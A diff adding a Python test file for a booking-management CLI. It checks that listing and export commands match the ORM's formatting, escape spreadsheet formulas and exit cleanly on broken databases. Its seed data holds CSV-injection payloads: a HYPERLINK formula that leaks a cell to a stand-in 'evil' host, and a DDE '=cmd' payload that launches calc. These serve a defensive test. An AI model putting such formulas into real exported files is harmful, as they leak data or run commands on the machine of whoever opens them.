@@ -1,0 +1,247 @@
+"""The plain reads (db/dbapi.py, services/plain_reads.py): `bookings list` and `export bookings` get their
+cells as text from the database, on both backends, and must write exactly what bapp's typed formatting
+(`instant_text`, money, `services.spreadsheet`) writes for the same bookings read through the ORM. Also:
+the commands load no SQLAlchemy, and a database that is not ready is exit 5 (bad URL exit 4), never a
+traceback."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import json
+import sqlite3
+from decimal import Decimal
+from pathlib import Path
+
+from sqlalchemy import select, update
+from sqlalchemy.orm import Session
+
+from bapp_cli.db.engine import make_engine
+from bapp_cli.db.models import Booking, Pathway, SessionType, User
+from bapp_cli.services.plain_reads import BOOKING_COLUMNS
+from bapp_cli.services.spreadsheet import cell_text, json_default
+from tests.conftest import Bapp
+
+EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
+EDGES = [  # start instants with and without microseconds, and offsets that land on the same UTC day
+    dt.datetime(2031, 3, 3, 10, 0, tzinfo=dt.UTC),
+    dt.datetime(2031, 3, 3, 10, 0, 0, 1, tzinfo=dt.UTC),
+    dt.datetime(2031, 12, 31, 23, 59, 59, 999999, tzinfo=dt.timezone(dt.timedelta(hours=-5))),
+]
+
+
+def _seed(bapp: Bapp) -> list[str]:
+    """Bookings with formula-looking and unicode names, unicode answers, edge instants; their references."""
+    for step in (
+        ("import", "all", str(EXAMPLES / "catalog.toml")),
+        ("calendly", "sync", "--from-file", str(EXAMPLES / "calendly" / "event_types.json")),
+        ("import", "clients", str(EXAMPLES / "clients.csv")),
+        ("import", "bookings", str(EXAMPLES / "bookings.csv")),
+    ):
+        result = bapp(*step, "--format", "tsv")
+        assert result.exit_code == 0, (step, result.stderr)
+    engine = make_engine(bapp.database_url)
+    with Session(engine) as session:
+        references = list(session.scalars(Booking.__table__.select().with_only_columns(Booking.reference)))
+        bookings = list(session.scalars(Booking.__table__.select().with_only_columns(Booking.id)))
+        names = ['=HYPERLINK("http://evil/?"&A1,"Click")', "Zoë ‘Ünïcode’ 漢字", "''-5"]
+        for index, (booking_id, start) in enumerate(zip(bookings, EDGES, strict=False)):
+            session.execute(
+                update(Booking)
+                .where(Booking.id == booking_id)
+                .values(
+                    start_time=start,
+                    end_time=start + dt.timedelta(minutes=30),
+                    amount=Decimal("5.5") if index == 2 else Decimal("12.30"),
+                    custom_question_responses=[{"question": "Qué?", "answer": "=1+1 ✓\u0001", "position": 0}],
+                )
+            )
+            client_id = session.scalar(
+                Booking.__table__.select().with_only_columns(Booking.client_id).where(Booking.id == booking_id)
+            )
+            session.execute(update(User).where(User.id == client_id).values(name=names[index]))
+        session.commit()
+    engine.dispose()
+    return references
+
+
+def _expected(bapp: Bapp) -> list[dict[str, object]]:
+    """The typed records, built from the ORM's objects (not the plain SQL), in the listing's order."""
+    engine = make_engine(bapp.database_url)
+    records = []
+    with Session(engine) as session:
+        for booking in session.scalars(select(Booking)):
+            client, kind = session.get(User, booking.client_id), session.get(SessionType, booking.session_type_id)
+            builder = session.get(User, booking.builder_id) if booking.builder_id else None
+            pathway = session.get(Pathway, booking.pathway_id) if booking.pathway_id else None
+            joined = {
+                "client": client and client.email,
+                "client_name": client and client.name,
+                "builder": builder and builder.email,
+                "session_id": booking.session_type_id,
+                "session_title": kind and kind.title,
+                "category": kind and kind.category,
+                "pathway": pathway and pathway.slug,
+            }
+            records.append({name: joined.get(name, getattr(booking, name, None)) for name in BOOKING_COLUMNS})
+    engine.dispose()
+    return sorted(records, key=lambda record: (record["start_time"], record["reference"]))
+
+
+def test_bookings_list_and_export_write_what_the_typed_formatting_writes(bapp: Bapp) -> None:
+    _seed(bapp)
+    expected = _expected(bapp)
+    as_json = json.loads(json.dumps(expected, default=json_default, ensure_ascii=False))
+    assert bapp("bookings", "list", "--format", "json").json() == as_json
+    lines = bapp("bookings", "list", "--format", "jsonl").stdout.splitlines()
+    assert [json.loads(line) for line in lines] == as_json
+    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
+        text = bapp("bookings", "list", "--format", fmt).stdout
+        rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
+        assert rows[0] == list(BOOKING_COLUMNS)
+        assert rows[1:] == [[cell_text(record[name]) for name in BOOKING_COLUMNS] for record in expected]
+    # the rows compared above hold the edge cases: formula-looking and unicode names, a control character,
+    # instants with microseconds and one given at an offset, an amount with one decimal
+    formulas = [record["client_name"] for record in expected if str(record["client_name"])[:1] in ("=", "'")]
+    assert formulas and all(cell_text(name).startswith("'") for name in formulas)
+    assert any(record["start_time"] == EDGES[2] for record in expected)
+    cells = bapp("bookings", "list", "--format", "csv").stdout
+    assert "2031-03-03T10:00:00.000001Z" in cells and "2032-01-01T04:59:59.999999Z" in cells and ",5.50," in cells
+    assert "=1+1 ✓\\u0001" in cells
+    # the export: the same cells, one writer for every format; --raw leaves the text as stored
+    exported = list(csv.DictReader(io.StringIO(bapp("export", "bookings", "--format", "csv").stdout)))
+    assert [row["start_time"] for row in exported] == [cell_text(record["start_time"]) for record in expected]
+    assert [row["client_name"] for row in exported] == [cell_text(record["client_name"]) for record in expected]
+    raw = list(csv.DictReader(io.StringIO(bapp("export", "bookings", "--format", "csv", "--raw").stdout)))
+    assert [row["client_name"] for row in raw] == [record["client_name"] or "" for record in expected]
+    exported_json = bapp("export", "bookings", "--format", "json").json()
+    assert [row["custom_question_responses"] for row in exported_json] == [
+        record["custom_question_responses"] for record in as_json
+    ]
+
+
+def test_filters_pages_and_empty_results(bapp: Bapp) -> None:
+    _seed(bapp)
+    every = bapp("bookings", "list", "--format", "json").json()
+    assert len(every) > 3
+    page = bapp("bookings", "list", "--limit", "2", "--offset", "1", "--format", "json").json()
+    assert page == every[1:3]
+    assert bapp("bookings", "list", "--offset", "2", "--format", "json").json() == every[2:]
+    found = bapp("bookings", "list", "--search", "ZOë", "--format", "json").json()
+    assert found and found == [row for row in every if row["client_name"] == "Zoë ‘Ünïcode’ 漢字"]
+    assert bapp("bookings", "list", "--search", "%", "--format", "json").json() == []  # % matches itself
+    client = every[0]["client"]
+    mine = bapp("bookings", "list", "--client", client.upper(), "--format", "json").json()
+    assert mine and all(row["client"] == client for row in mine)
+    assert (
+        bapp("bookings", "list", "--from", "2999-01-01", "--format", "csv").stdout == ",".join(BOOKING_COLUMNS) + "\n"
+    )
+    assert bapp("bookings", "list", "--pathway", "none", "--format", "json").json() == [
+        row for row in every if row["pathway"] is None
+    ]
+    late = bapp("bookings", "list", "--from", "2031-03-03T10:00:00.000001Z", "--format", "json").json()
+    assert late == [row for row in every if dt.datetime.fromisoformat(row["start_time"]) >= EDGES[1]]
+    for args, code in (
+        (("--client", "nobody@example.com"), 7),
+        (("--client", "not an address"), 6),
+        (("--status", "lost"), 6),
+        (("--pathway", "nowhere"), 7),
+        (("--session", "99999999999"), 7),
+    ):
+        result = bapp("bookings", "list", *args, "--format", "json")
+        assert result.exit_code == code, (args, result.stderr)
+        assert "Traceback" not in result.stderr
+
+
+def test_reads_load_no_sqlalchemy(bapp: Bapp) -> None:
+    _seed(bapp)
+    email = bapp("bookings", "list", "--format", "json").json()[0]["client"]
+    probe = (
+        "import sys; from bapp_cli.cli.launcher import main; sys.argv = ['bapp', *sys.argv[1:]]\n"
+        "try:\n    main()\nexcept SystemExit as done:\n    code = done.code\n"
+        "print(sorted(m for m in ('sqlalchemy', 'pydantic', 'rich', 'alembic') if m in sys.modules), file=sys.stderr)"
+    )
+    for args in (
+        ("bookings", "list", "--limit", "50"),
+        ("bookings", "list", "--client", email, "--format", "csv"),
+        ("export", "bookings", "--format", "csv"),
+        ("sessions", "list", "--all"),
+    ):
+        result = _python(bapp, probe, *args)
+        assert result.splitlines()[-1] == "[]", (args, result)
+
+
+def _python(bapp: Bapp, script: str, *args: str) -> str:
+    import subprocess
+    import sys
+
+    completed = subprocess.run(
+        [sys.executable, "-c", script, *args], env=bapp._environment(None), capture_output=True, text=True, timeout=120
+    )
+    assert completed.returncode == 0, completed.stderr
+    return completed.stderr
+
+
+def test_database_not_ready_is_exit_5_and_a_bad_url_exit_4(bapp: Bapp, tmp_path: Path) -> None:
+    missing = bapp("bookings", "list", env={"BAPP_DATABASE_URL": f"sqlite:///{tmp_path}/missing.db"})
+    assert missing.exit_code == 5 and "does not exist" in missing.stderr
+    empty = tmp_path / "empty.db"
+    sqlite3.connect(empty).close()
+    unmigrated = bapp("bookings", "list", env={"BAPP_DATABASE_URL": f"sqlite:///{empty}"})
+    assert unmigrated.exit_code == 5 and "no schema yet" in unmigrated.stderr
+    garbage = tmp_path / "garbage.db"
+    garbage.write_bytes(b"not a database at all" * 100)
+    broken = bapp("export", "bookings", "--format", "csv", env={"BAPP_DATABASE_URL": f"sqlite:///{garbage}"})
+    assert broken.exit_code == 5 and "not a SQLite database" in broken.stderr
+    newer = tmp_path / "newer.db"
+    with sqlite3.connect(newer) as connection:
+        connection.execute("CREATE TABLE alembic_version (version_num VARCHAR(32))")
+        connection.execute("INSERT INTO alembic_version VALUES ('9999_from_the_future')")
+    future = bapp("bookings", "list", env={"BAPP_DATABASE_URL": f"sqlite:///{newer}"})
+    assert future.exit_code == 5 and "newer bapp" in future.stderr
+    bad = bapp("bookings", "list", env={"BAPP_DATABASE_URL": "mysql://somewhere/db"})
+    assert bad.exit_code == 4
+    for result in (missing, unmigrated, broken, future, bad):
+        assert "Traceback" not in result.stderr
+
+
+def test_sessions_list_writes_the_session_records(bapp: Bapp) -> None:
+    """Every format and filter of `sessions list` against the records the ORM builds (session_records)."""
+    from bapp_cli.services.session_types import session_records
+
+    _seed(bapp)
+    for step in (
+        ("builders", "add", "priya@coach.example", "--name", "Priya"),
+        ("sessions", "add", "--title", "=cmd|' /C calc'!A0", "--duration", "30", "--category", "free",
+         "--builder", "priya@coach.example", "--price", "12.5"),
+        ("sessions", "update", "accelerate-foundation-coaching", "--pathway", "pivot", "--display-order", "2"),
+        ("sessions", "update", "free-discovery-call", "--disable"),
+    ):  # fmt: skip
+        result = bapp(*step, "--format", "tsv")
+        assert result.exit_code == 0, (step, result.stderr)
+    engine = make_engine(bapp.database_url)
+    with Session(engine) as session:
+        types = list(session.scalars(select(SessionType)))
+        expected = {record["id"]: record for record in session_records(session, types)}
+    engine.dispose()
+    listed = bapp("sessions", "list", "--all", "--format", "json").json()
+    assert sorted(record["id"] for record in listed) == sorted(expected)
+    assert listed == json.loads(json.dumps([expected[record["id"]] for record in listed], default=json_default))
+    bookable = [record for record in listed if record["bookable"]]
+    assert bapp("sessions", "list", "--format", "json").json() == bookable and len(bookable) < len(listed)
+    text = bapp("sessions", "list", "--all", "--format", "csv").stdout
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[1:] == [[cell_text(expected[record["id"]][name]) for name in rows[0]] for record in listed]
+    assert "'=cmd|" in text
+    assert bapp("sessions", "list", "--all", "--limit", "2", "--offset", "1", "--format", "json").json() == listed[1:3]
+    linked = bapp("sessions", "list", "--all", "--pathway", "PIVOT", "--format", "json").json()
+    assert linked and all("pivot" in record["pathways"] for record in linked)
+    mine = bapp("sessions", "list", "--all", "--builder", "priya@coach.example", "--format", "json").json()
+    assert [record["title"] for record in mine] == ["=cmd|' /C calc'!A0"]
+    free = bapp("sessions", "list", "--all", "--category", "FREE", "--format", "json").json()
+    assert free == [record for record in listed if record["category"] == "free"]
+    assert bapp("sessions", "list", "--all", "--search", "zzz-nothing", "--format", "json").json() == []
+    for args, code in ((("--category", "paid"), 6), (("--pathway", "nowhere"), 7), (("--builder", "x@y.example"), 7)):
+        result = bapp("sessions", "list", *args, "--format", "json")
+        assert result.exit_code == code and "Traceback" not in result.stderr, (args, result.stderr)
